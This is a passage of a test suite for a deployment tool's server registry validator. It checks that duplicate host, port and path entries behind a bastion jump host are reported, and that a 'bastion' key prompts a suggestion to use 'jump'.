    expect(loadRegistry(writeRegistry(twice)).servers).toHaveLength(2)
    const same = { servers: [server({ host: '10.0.0.5', jump: bastion }), server({ host: '10.0.0.5', jump: bastion }, 2)] }
    expect(problemsOf(same)[0]!.message).toMatch(/deploys to \/home\/deploy\/openclaw-prd on 10\.0\.0\.5:22 through bastion\.example\.com:22, the same host, port and path as servers\[0\]/)
  })

  it('suggests "jump" for what other tools call it', () => {
    expect(problemsOf(one({ bastion: 'b.example' }))[0]!.message).toMatch(/Did you mean "jump"\?/)
  })
})
